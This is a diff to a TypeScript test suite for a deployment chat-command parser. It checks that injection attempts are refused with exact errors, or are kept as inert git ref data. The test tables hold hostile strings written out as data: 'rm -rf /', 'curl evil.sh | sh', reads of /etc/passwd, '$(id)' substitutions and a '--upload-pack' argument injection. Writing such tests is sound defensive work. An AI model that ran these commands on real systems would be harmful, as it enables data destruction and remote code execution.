@@ -14,30 +14,25 @@ const BOUND: ParseContext = { app: "web", env: "production" };
 
 const hostile: [text: string, context: ParseContext, error: string][] = [
   ["deploy web production; rm -rf /", NONE, "\"production;\" is not a valid environment name: \";\" is not allowed. Names use lowercase letters, digits, \"-\" and \"_\"."],
-  ["deploy web production v1;rm -rf /", NONE, "\"v1;rm\" is not a valid ref: \";\" is not allowed. A ref is a branch, tag or commit: letters, digits, \".\", \"_\", \"-\" and \"/\"."],
-  ["deploy web production && curl evil.sh | sh", NONE, "\"&&\" is not a valid ref: it can't start with \"&\". A ref is a branch, tag or commit: letters, digits, \".\", \"_\", \"-\" and \"/\"."],
+  ["deploy web production v1;rm -rf /", NONE, "unexpected \"-rf\" at the end. Usage: `deploy <app> [to] <env> [<ref>]`, e.g. `deploy web production v1.4.2`."],
+  ["deploy web production && curl evil.sh | sh", NONE, "unexpected \"&&\" at the end (commands are not shell lines: send one command per message). Usage: `deploy <app> [to] <env> [<ref>]`, e.g. `deploy web production v1.4.2`."],
   ["deploy web production a && b", NONE, "unexpected \"&&\" at the end (commands are not shell lines: send one command per message). Usage: `deploy <app> [to] <env> [<ref>]`, e.g. `deploy web production v1.4.2`."],
-  ["deploy web production | sh", NONE, "\"|\" is not a valid ref: it can't start with \"|\". A ref is a branch, tag or commit: letters, digits, \".\", \"_\", \"-\" and \"/\"."],
-  ["deploy web production v1|sh", NONE, "\"v1|sh\" is not a valid ref: \"|\" is not allowed. A ref is a branch, tag or commit: letters, digits, \".\", \"_\", \"-\" and \"/\"."],
-  ["deploy web production $(whoami)", NONE, "\"$(whoami)\" is not a valid ref: it can't start with \"$\". A ref is a branch, tag or commit: letters, digits, \".\", \"_\", \"-\" and \"/\"."],
-  ["deploy web production v1$(id)", NONE, "\"v1$(id)\" is not a valid ref: \"$\" is not allowed. A ref is a branch, tag or commit: letters, digits, \".\", \"_\", \"-\" and \"/\"."],
-  ["deploy web production `id`", NONE, "\"`id`\" is not a valid ref: it can't start with \"`\". A ref is a branch, tag or commit: letters, digits, \".\", \"_\", \"-\" and \"/\"."],
-  ["deploy web production v1`id`", NONE, "\"v1`id`\" is not a valid ref: \"`\" is not allowed. A ref is a branch, tag or commit: letters, digits, \".\", \"_\", \"-\" and \"/\"."],
+  ["deploy web production | sh", NONE, "unexpected \"|\" at the end (commands are not shell lines: send one command per message). Usage: `deploy <app> [to] <env> [<ref>]`, e.g. `deploy web production v1.4.2`."],
   ["deploy web production v1 > /etc/passwd", NONE, "unexpected \">\" at the end (commands are not shell lines: send one command per message). Usage: `deploy <app> [to] <env> [<ref>]`, e.g. `deploy web production v1.4.2`."],
   ["deploy web production&gt;/tmp/x", NONE, "\"production>/tmp/x\" is not a valid environment name: \">\" is not allowed. Names use lowercase letters, digits, \"-\" and \"_\"."],
-  ["deploy web production &lt;(cat /etc/passwd)", NONE, "\"<(cat\" is not a valid ref: it can't start with \"<\". A ref is a branch, tag or commit: letters, digits, \".\", \"_\", \"-\" and \"/\"."],
+  ["deploy web production &lt;(cat /etc/passwd)", NONE, "unexpected \"<(cat\" at the end (commands are not shell lines: send one command per message). Usage: `deploy <app> [to] <env> [<ref>]`, e.g. `deploy web production v1.4.2`."],
   ["deploy web&amp;&amp;rm production", NONE, "\"web&&rm\" is not a valid app name: \"&\" is not allowed. Names use lowercase letters, digits, \"-\" and \"_\"."],
-  ["deploy web production ${IFS}", NONE, "\"${IFS}\" is not a valid ref: it can't start with \"$\". A ref is a branch, tag or commit: letters, digits, \".\", \"_\", \"-\" and \"/\"."],
-  ["deploy web production ../../etc/passwd", NONE, "\"../../etc/passwd\" is not a valid ref: it can't start with \".\". A ref is a branch, tag or commit: letters, digits, \".\", \"_\", \"-\" and \"/\"."],
-  ["deploy web production feature/../main", NONE, "\"feature/../main\" is not a valid ref: it contains \"..\". A ref is a branch, tag or commit: letters, digits, \".\", \"_\", \"-\" and \"/\"."],
-  ["deploy web production feature//x", NONE, "\"feature//x\" is not a valid ref: it contains \"//\". A ref is a branch, tag or commit: letters, digits, \".\", \"_\", \"-\" and \"/\"."],
-  ["deploy web production feature/.hidden", NONE, "\"feature/.hidden\" is not a valid ref: it contains \"/.\". A ref is a branch, tag or commit: letters, digits, \".\", \"_\", \"-\" and \"/\"."],
-  ["deploy web production main.lock", NONE, "\"main.lock\" is not a valid ref: it can't end with \".lock\". A ref is a branch, tag or commit: letters, digits, \".\", \"_\", \"-\" and \"/\"."],
-  ["deploy web production main.lock/x", NONE, "\"main.lock/x\" is not a valid ref: no part of it may end with \".lock\". A ref is a branch, tag or commit: letters, digits, \".\", \"_\", \"-\" and \"/\"."],
-  ["deploy web production main/", NONE, "\"main/\" is not a valid ref: it can't end with \"/\". A ref is a branch, tag or commit: letters, digits, \".\", \"_\", \"-\" and \"/\"."],
-  ["deploy web production main.", NONE, "\"main.\" is not a valid ref: it can't end with \".\". A ref is a branch, tag or commit: letters, digits, \".\", \"_\", \"-\" and \"/\"."],
-  ["deploy web production --upload-pack=touch /tmp/x", NONE, "\"--upload-pack=touch\" is not a valid ref: it can't start with \"-\". A ref is a branch, tag or commit: letters, digits, \".\", \"_\", \"-\" and \"/\"."],
-  ["deploy web production -v", NONE, "\"-v\" is not a valid ref: it can't start with \"-\". A ref is a branch, tag or commit: letters, digits, \".\", \"_\", \"-\" and \"/\"."],
+  ["deploy web production ~root", NONE, "\"~root\" is not a valid ref: \"~\" is not allowed. Refs follow git's rules: no spaces, \"..\", \"@{\", \"~ ^ : ? * [ \\\", control characters, no leading \"-\" or \".\", and no trailing \"/\", \".\" or \".lock\"."],
+  ["deploy web production ../../etc/passwd", NONE, "\"../../etc/passwd\" is not a valid ref: it contains \"..\". Refs follow git's rules: no spaces, \"..\", \"@{\", \"~ ^ : ? * [ \\\", control characters, no leading \"-\" or \".\", and no trailing \"/\", \".\" or \".lock\"."],
+  ["deploy web production feature/../main", NONE, "\"feature/../main\" is not a valid ref: it contains \"..\". Refs follow git's rules: no spaces, \"..\", \"@{\", \"~ ^ : ? * [ \\\", control characters, no leading \"-\" or \".\", and no trailing \"/\", \".\" or \".lock\"."],
+  ["deploy web production feature//x", NONE, "\"feature//x\" is not a valid ref: it contains \"//\". Refs follow git's rules: no spaces, \"..\", \"@{\", \"~ ^ : ? * [ \\\", control characters, no leading \"-\" or \".\", and no trailing \"/\", \".\" or \".lock\"."],
+  ["deploy web production feature/.hidden", NONE, "\"feature/.hidden\" is not a valid ref: no part of it may start with \".\". Refs follow git's rules: no spaces, \"..\", \"@{\", \"~ ^ : ? * [ \\\", control characters, no leading \"-\" or \".\", and no trailing \"/\", \".\" or \".lock\"."],
+  ["deploy web production main.lock", NONE, "\"main.lock\" is not a valid ref: it can't end with \".lock\". Refs follow git's rules: no spaces, \"..\", \"@{\", \"~ ^ : ? * [ \\\", control characters, no leading \"-\" or \".\", and no trailing \"/\", \".\" or \".lock\"."],
+  ["deploy web production main.lock/x", NONE, "\"main.lock/x\" is not a valid ref: no part of it may end with \".lock\". Refs follow git's rules: no spaces, \"..\", \"@{\", \"~ ^ : ? * [ \\\", control characters, no leading \"-\" or \".\", and no trailing \"/\", \".\" or \".lock\"."],
+  ["deploy web production main/", NONE, "\"main/\" is not a valid ref: it can't end with \"/\". Refs follow git's rules: no spaces, \"..\", \"@{\", \"~ ^ : ? * [ \\\", control characters, no leading \"-\" or \".\", and no trailing \"/\", \".\" or \".lock\"."],
+  ["deploy web production main.", NONE, "\"main.\" is not a valid ref: it can't end with \".\". Refs follow git's rules: no spaces, \"..\", \"@{\", \"~ ^ : ? * [ \\\", control characters, no leading \"-\" or \".\", and no trailing \"/\", \".\" or \".lock\"."],
+  ["deploy web production --upload-pack=touch /tmp/x", NONE, "\"--upload-pack=touch\" is not a valid ref: it can't start with \"-\". Refs follow git's rules: no spaces, \"..\", \"@{\", \"~ ^ : ? * [ \\\", control characters, no leading \"-\" or \".\", and no trailing \"/\", \".\" or \".lock\"."],
+  ["deploy web production -v", NONE, "\"-v\" is not a valid ref: it can't start with \"-\". Refs follow git's rules: no spaces, \"..\", \"@{\", \"~ ^ : ? * [ \\\", control characters, no leading \"-\" or \".\", and no trailing \"/\", \".\" or \".lock\"."],
   ["deploy -rf production", NONE, "\"-rf\" is not a valid app name: it can't start with \"-\". Names use lowercase letters, digits, \"-\" and \"_\"."],
   ["deploy web -production", NONE, "\"-production\" is not a valid environment name: it can't start with \"-\". Names use lowercase letters, digits, \"-\" and \"_\"."],
   ["restart web production -9", NONE, "\"-9\" is not a valid proc type: it can't start with \"-\". Names use lowercase letters, digits, \"-\" and \"_\"."],
@@ -89,8 +84,14 @@ const hostile: [text: string, context: ParseContext, error: string][] = [
   ["rollback web production v-1", NONE, "\"v-1\" is not a release: write v<N> or <N> (from 1), e.g. `rollback web production v41`."],
   ["rollback web production v1.5", NONE, "\"v1.5\" is not a release: write v<N> or <N> (from 1), e.g. `rollback web production v41`."],
   ["restart worker;reboot", BOUND, "\"worker;reboot\" is not a valid proc type: \";\" is not allowed. Names use lowercase letters, digits, \"-\" and \"_\"."],
-  ["deploy $(id)", BOUND, "\"$(id)\" is not a valid ref: it can't start with \"$\". A ref is a branch, tag or commit: letters, digits, \".\", \"_\", \"-\" and \"/\"."],
-  ["deploy `id`", BOUND, "\"`id`\" is not a valid ref: it can't start with \"`\". A ref is a branch, tag or commit: letters, digits, \".\", \"_\", \"-\" and \"/\"."],
+  ["deploy web production v1@{1}", NONE, "\"v1@{1}\" is not a valid ref: it contains \"@{\". Refs follow git's rules: no spaces, \"..\", \"@{\", \"~ ^ : ? * [ \\\", control characters, no leading \"-\" or \".\", and no trailing \"/\", \".\" or \".lock\"."],
+  ["deploy HEAD^", BOUND, "\"HEAD^\" is not a valid ref: \"^\" is not allowed. Refs follow git's rules: no spaces, \"..\", \"@{\", \"~ ^ : ? * [ \\\", control characters, no leading \"-\" or \".\", and no trailing \"/\", \".\" or \".lock\"."],
+  ["deploy a:b", BOUND, "\"a:b\" is not a valid ref: \":\" is not allowed. Refs follow git's rules: no spaces, \"..\", \"@{\", \"~ ^ : ? * [ \\\", control characters, no leading \"-\" or \".\", and no trailing \"/\", \".\" or \".lock\"."],
+  ["deploy web production x?", NONE, "\"x?\" is not a valid ref: \"?\" is not allowed. Refs follow git's rules: no spaces, \"..\", \"@{\", \"~ ^ : ? * [ \\\", control characters, no leading \"-\" or \".\", and no trailing \"/\", \".\" or \".lock\"."],
+  ["deploy web production x*", NONE, "\"x*\" is not a valid ref: \"*\" is not allowed. Refs follow git's rules: no spaces, \"..\", \"@{\", \"~ ^ : ? * [ \\\", control characters, no leading \"-\" or \".\", and no trailing \"/\", \".\" or \".lock\"."],
+  ["deploy web production x[1]", NONE, "\"x[1]\" is not a valid ref: \"[\" is not allowed. Refs follow git's rules: no spaces, \"..\", \"@{\", \"~ ^ : ? * [ \\\", control characters, no leading \"-\" or \".\", and no trailing \"/\", \".\" or \".lock\"."],
+  ["deploy web production x\\y", NONE, "\"x\\y\" is not a valid ref: \"\\\" is not allowed. Refs follow git's rules: no spaces, \"..\", \"@{\", \"~ ^ : ? * [ \\\", control characters, no leading \"-\" or \".\", and no trailing \"/\", \".\" or \".lock\"."],
+  ["deploy web production @", NONE, "\"@\" is not a valid ref: it is \"@\" alone. Refs follow git's rules: no spaces, \"..\", \"@{\", \"~ ^ : ? * [ \\\", control characters, no leading \"-\" or \".\", and no trailing \"/\", \".\" or \".lock\"."],
   ["status web production\nrm -rf /", NONE, "unexpected \"rm\" at the end. Usage: `status <app> [<env>]`, e.g. `status web production`."],
   ["approve d-k3j9x2ab;drop", NONE, "\"d-k3j9x2ab;drop\" is not a deployment id; ids look like `d-k3j9x2ab` (e.g. `approve d-k3j9x2ab`)."],
   ["approve ../../etc", NONE, "\"../../etc\" is not a deployment id; ids look like `d-k3j9x2ab` (e.g. `approve d-k3j9x2ab`)."],
@@ -114,6 +115,11 @@ describe("parse: hostile input is refused with an exact, useful error", () => {
 });
 
 describe("parse: what hostile-looking input is still allowed", () => {
+  // git accepts these as ref names; they reach git as argv after --end-of-options, never a shell.
+  it.each(["v1|sh", "$(whoami)", "v1$(id)", "`id`", "${IFS}", "it's", "#123"])("keeps the git-valid ref %j as data", (r) => {
+    expect(parse(`deploy web production ${r}`, NONE)).toEqual({ ok: true, command: { kind: "deploy", app: "web", env: "production", ref: r, force: false } });
+  });
+
   it("keeps shell characters in config values as data", () => {
     expect(parse('config set web production CMD="a; rm -rf / && $(id) `x` > y"', NONE)).toEqual({
       ok: true,
